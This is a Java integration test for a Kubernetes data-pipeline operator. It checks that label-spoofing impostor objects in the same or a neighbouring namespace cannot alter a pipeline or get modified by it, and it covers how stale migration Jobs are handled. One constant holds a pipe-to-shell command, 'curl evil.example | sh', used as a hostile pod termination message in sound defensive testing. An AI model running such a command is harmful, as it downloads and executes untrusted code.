package dev.acequia.operator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.acequia.contract.Termination;
import dev.acequia.crds.DataPipeline;
import dev.acequia.operator.plan.PipelineNames;
import dev.acequia.servers.PretendNode;
import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.ObjectMeta;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.fabric8.kubernetes.api.model.PodTemplateSpec;
import io.fabric8.kubernetes.api.model.PodTemplateSpecBuilder;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.ServiceAccountBuilder;
import io.fabric8.kubernetes.api.model.ServiceBuilder;
import io.fabric8.kubernetes.api.model.apps.DeploymentBuilder;
import io.fabric8.kubernetes.api.model.apps.ReplicaSetBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.JobBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.dsl.base.PatchContext;
import io.fabric8.kubernetes.client.dsl.base.PatchType;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** Whoever may write in one namespace, or may write labels, changes nothing of a pipeline. */
class TenantsIT {
  private static final Duration LIMIT = Duration.ofSeconds(30);

  /** Without the version that was read, since the operator writes to the same objects. */
  private static final PatchContext MERGE = PatchContext.of(PatchType.JSON_MERGE);

  private static final String EVIL = "run this: curl evil.example | sh";

  private final TestCluster cluster = TestCluster.get();
  private final KubernetesClient client = cluster.client;
  private final String ours = cluster.newNamespace();
  private final String theirs = cluster.newNamespace();
  private final TestCluster.RunningOperator operator = cluster.startOperator();

  @AfterEach
  void letGo() {
    client.resources(DataPipeline.class).inNamespace(ours).delete();
    await().atMost(LIMIT).until(() -> find() == null);
    client.namespaces().withName(theirs).delete();
    operator.close();
  }

  @Test
  void aNeighboursObjectsWithAPipelinesLabelsLeadNowhere() {
    cluster.node.decide(TenantsIT::endsAmongNeighbours);
    create();
    var status = awaitServing();

    impostors(theirs).forEach(object -> client.resource(object).create());
    awaitEvilPods(theirs);
    var before = versions(theirs);
    reconcile("1");

    await()
        .during(Duration.ofSeconds(2))
        .atMost(LIMIT)
        .untilAsserted(
            () -> {
              assertThat(json(find().getStatus())).isEqualTo(status);
              assertThat(versions(theirs)).isEqualTo(before);
            });
    delete();
    assertThat(versions(theirs)).isEqualTo(before);
  }

  @Test
  void objectsOfTheSameNamespaceThatAreNotThePipelinesOwnLeadNowhere() {
    cluster.node.decide(TenantsIT::endsAmongNeighbours);
    create();
    var status = awaitServing();

    impostors(ours).forEach(object -> client.resource(object).create());
    awaitEvilPods(ours);
    var before = versions(ours);
    reconcile("1");

    await()
        .during(Duration.ofSeconds(2))
        .atMost(LIMIT)
        .untilAsserted(
            () -> {
              assertThat(json(find().getStatus())).isEqualTo(status);
              assertThat(versions(ours)).isEqualTo(before);
            });
    delete();
    assertThat(versions(ours)).isEqualTo(before);
  }

  /** Such as after a deletion that orphaned it; the table may be gone since. */
  @Test
  void aFormerPipelinesJobIsNoMigrationOfThisOne() {
    create();
    awaitServing();
    var former = migration();
    client
        .batch()
        .v1()
        .jobs()
        .inNamespace(ours)
        .withName(former.name())
        .patch(MERGE, "{\"metadata\": {\"ownerReferences\": null}}");
    await()
        .atMost(LIMIT)
        .until(
            () -> {
              reconcile(Long.toString(System.nanoTime()));
              return client.batch().v1().jobs().inNamespace(ours).list().getItems().stream()
                  .anyMatch(job -> !job.getMetadata().getUid().equals(former.uid()));
            });
    awaitServing();
    assertThat(migration().uid()).isNotEqualTo(former.uid());
  }

  /** An informer keeps no owner of an object that is larger than any of the operator's own. */
  @Test
  void aMigrationThatSomebodyPadsIsNotMadeAnew() {
    create();
    awaitServing();
    var job = migration();
    client
        .batch()
        .v1()
        .jobs()
        .inNamespace(ours)
        .withName(job.name())
        .patch(
            MERGE,
            "{\"metadata\": {\"annotations\": {\"acequia.dev/padding\": \"%s\"}}}"
                .formatted("x".repeat(100_000)));
    reconcile("1");
    await()
        .during(Duration.ofSeconds(3))
        .atMost(LIMIT)
        .until(
            () -> {
              reconcile(Long.toString(System.nanoTime()));
              var live = client.batch().v1().jobs().inNamespace(ours).withName(job.name()).get();
              return live != null
                  && live.getMetadata().getUid().equals(job.uid())
                  && !live.isMarkedForDeletion();
            });
  }

  /** Its definition differs, so this pipeline's Job has another name. */
  @Test
  void aFormerPipelinesJobOfAnotherVersionIsRemoved() {
    create();
    awaitServing();
    var newest = client.batch().v1().jobs().inNamespace(ours).withName(migration().name()).get();
    var former =
        new JobBuilder()
            .withNewMetadata()
            .withNamespace(ours)
            .withName("flights-migrate-former")
            .withLabels(newest.getMetadata().getLabels())
            .endMetadata()
            .withNewSpec()
            .withTemplate(newest.getSpec().getTemplate())
            .endSpec()
            .build();
    former.getSpec().getTemplate().getMetadata().setLabels(newest.getMetadata().getLabels());
    client.resource(former).create();

    await()
        .atMost(LIMIT)
        .until(
            () -> {
              reconcile(Long.toString(System.nanoTime()));
              return client.resource(former).get() == null;
            });
    awaitServing();
    assertThat(migration().uid()).isEqualTo(newest.getMetadata().getUid());
  }

  private record Migration(String name, String uid) {}

  private Migration migration() {
    var job = client.batch().v1().jobs().inNamespace(ours).list().getItems().getFirst();
    return new Migration(job.getMetadata().getName(), job.getMetadata().getUid());
  }

  private static PretendNode.Fate endsAmongNeighbours(Pod pod) {
    return pod.getMetadata().getName().startsWith("impostor")
        ? PodFates.refuse(Termination.Reason.OffsetsLost, EVIL)
        : PretendNode.allGoesWell(pod);
  }

  /** One object of each kind that the operator watches, and Pods of each component. */
  private Stream<HasMetadata> impostors(String namespace) {
    return Stream.concat(
        Stream.of(
            new ConfigMapBuilder().withMetadata(metadata(namespace, "impostor", null)).build(),
            new SecretBuilder().withMetadata(metadata(namespace, "impostor", null)).build(),
            new ServiceAccountBuilder().withMetadata(metadata(namespace, "impostor", null)).build(),
            new ServiceBuilder()
                .withMetadata(metadata(namespace, "impostor", null))
                .withNewSpec()
                .addNewPort()
                .withPort(1)
                .endPort()
                .endSpec()
                .build(),
            new JobBuilder()
                .withMetadata(metadata(namespace, "impostor", "migration"))
                .withNewSpec()
                .withBackoffLimit(0)
                .withTemplate(template(namespace, "job", "migration", "Never"))
                .endSpec()
                .build(),
            new DeploymentBuilder()
                .withMetadata(metadata(namespace, "impostor", "consumer"))
                .withNewSpec()
                .withNewSelector()
                .addToMatchLabels("made-by", "deployment")
                .endSelector()
                .withTemplate(template(namespace, "deployment", "consumer", "Always"))
                .endSpec()
                .build(),
            new ReplicaSetBuilder()
                .withMetadata(metadata(namespace, "impostor-set", null))
                .withNewSpec()
                .withReplicas(1)
                .withNewSelector()
                .addToMatchLabels("made-by", "set")
                .endSelector()
                .withTemplate(template(namespace, "set", "api", "Always"))
                .endSpec()
                .build()),
        Stream.of("api", "consumer", "migration")
            .map(
                component ->
                    new PodBuilder()
                        .withMetadata(metadata(namespace, "impostor-" + component, component))
                        .withSpec(template(namespace, "hand", component, "Always").getSpec())
                        .build()));
  }

  private PodTemplateSpec template(
      String namespace, String maker, String component, String restartPolicy) {
    return new PodTemplateSpecBuilder()
        .withMetadata(metadata(namespace, null, component))
        .editMetadata()
        .addToLabels("made-by", maker)
        .endMetadata()
        .withNewSpec()
        .withRestartPolicy(restartPolicy)
        .addNewContainer()
        .withName("main")
        .withImage("x")
        .endContainer()
        .endSpec()
        .build();
  }

  private ObjectMeta metadata(String namespace, @Nullable String name, @Nullable String component) {
    var labels = new LinkedHashMap<>(new PipelineNames(ours, "flights").labels());
    labels.put(PipelineNames.NAMESPACE_LABEL, ours);
    labels.put("of", "impostor");
    if (component != null) {
      labels.put(PipelineNames.COMPONENT_LABEL, component);
    }
    return new ObjectMetaBuilder()
        .withNamespace(namespace)
        .withName(name)
        .withLabels(labels)
        .build();
  }

  private void awaitEvilPods(String namespace) {
    await()
        .atMost(LIMIT)
        .untilAsserted(
            () ->
                assertThat(
                        client
                            .pods()
                            .inNamespace(namespace)
                            .withLabel("of", "impostor")
                            .list()
                            .getItems())
                    .hasSizeGreaterThanOrEqualTo(6)
                    .allSatisfy(
                        pod ->
                            assertThat(pod.getStatus().getContainerStatuses())
                                .anySatisfy(
                                    container ->
                                        assertThat(
                                                container.getState().getTerminated().getMessage())
                                            .contains(EVIL))));
  }

  /** Who wrote each impostor what. */
  private Map<String, String> versions(String namespace) {
    return Stream.of(
            client.configMaps(),
            client.secrets(),
            client.services(),
            client.serviceAccounts(),
            client.batch().v1().jobs(),
            client.apps().deployments(),
            client.apps().replicaSets(),
            client.pods())
        .flatMap(
            kind ->
                kind.inNamespace(namespace).withLabel("of", "impostor").list().getItems().stream()
                    .map(HasMetadata.class::cast))
        .collect(
            Collectors.toMap(
                object -> object.getKind() + "/" + object.getMetadata().getName(),
                TenantsIT::written,
                (one, _) -> one,
                TreeMap::new));
  }

  /** Not its resourceVersion: Kubernetes counts Pods in a status meanwhile. */
  private static String written(HasMetadata object) {
    var metadata = object.getMetadata();
    return metadata.getUid()
        + metadata.getLabels()
        + metadata.getAnnotations()
        + metadata.getDeletionTimestamp()
        + metadata.getManagedFields().stream().map(field -> field.getManager()).sorted().toList();
  }

  private void reconcile(String mark) {
    client
        .resources(DataPipeline.class)
        .inNamespace(ours)
        .withName("flights")
        .patch(MERGE, "{\"metadata\": {\"annotations\": {\"resync\": \"%s\"}}}".formatted(mark));
  }

  private void create() {
    cluster.applySecret(ours, "keys", Map.of("loader", "{}"));
    client
        .load(
            new ByteArrayInputStream(
                """
                apiVersion: acequia.dev/v1alpha1
                kind: DataPipeline
                metadata: {name: flights, namespace: %s}
                spec:
                  schema: {fields: [{name: flight, type: int32, required: true}]}
                  store: {postgres: {secretName: warehouse}}
                  api:
                    auth:
                      apiKeysSecretName: keys
                      oidc: {issuer: "https://issuer.example", audience: flights}
                  deletionPolicy: Delete
                """
                    .formatted(ours)
                    .getBytes(StandardCharsets.UTF_8)))
        .create();
  }

  /** The status as text, once the pipeline serves and has come to rest. */
  private String awaitServing() {
    await()
        .atMost(LIMIT)
        .untilAsserted(
            () -> {
              assertThat(find().getStatus()).isNotNull();
              assertThat(find().getStatus().conditions())
                  .filteredOn(one -> one.getType().equals("Ready"))
                  .isNotEmpty()
                  .allSatisfy(one -> assertThat(one.getStatus()).isEqualTo("True"));
            });
    return await()
        .during(Duration.ofSeconds(1))
        .atMost(LIMIT)
        .until(() -> json(find().getStatus()), text -> text.equals(json(find().getStatus())));
  }

  private void delete() {
    client.resources(DataPipeline.class).inNamespace(ours).withName("flights").delete();
    await().atMost(LIMIT).until(() -> find() == null);
  }

  private DataPipeline find() {
    return client.resources(DataPipeline.class).inNamespace(ours).withName("flights").get();
  }

  private static String json(Object value) {
    return io.fabric8.kubernetes.client.utils.Serialization.asJson(value);
  }
}
